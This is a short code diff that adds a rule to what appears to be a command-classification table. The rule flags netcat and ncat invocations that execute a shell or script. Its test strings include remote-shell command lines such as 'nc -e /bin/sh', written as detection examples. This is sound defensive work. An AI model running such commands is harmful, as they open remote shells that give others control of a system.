@@ -161,6 +161,14 @@ ROWS: tuple[ArgumentRule, ...] = (
         misses=("aria2c u",),
     ),
     ArgumentRule(
+        "nc ncat netcat nc.traditional",
+        RUNS,
+        short="ec",
+        long="exec sh-exec lua-exec",
+        hits=("nc -e /bin/sh h 1", "ncat --sh-exec=x h 1", "ncat --lua-exec x h 1"),
+        misses=("nc --help",),
+    ),
+    ArgumentRule(
         "nc ncat netcat socat nc.traditional nc.openbsd",
         FETCHES,
         operands=1,
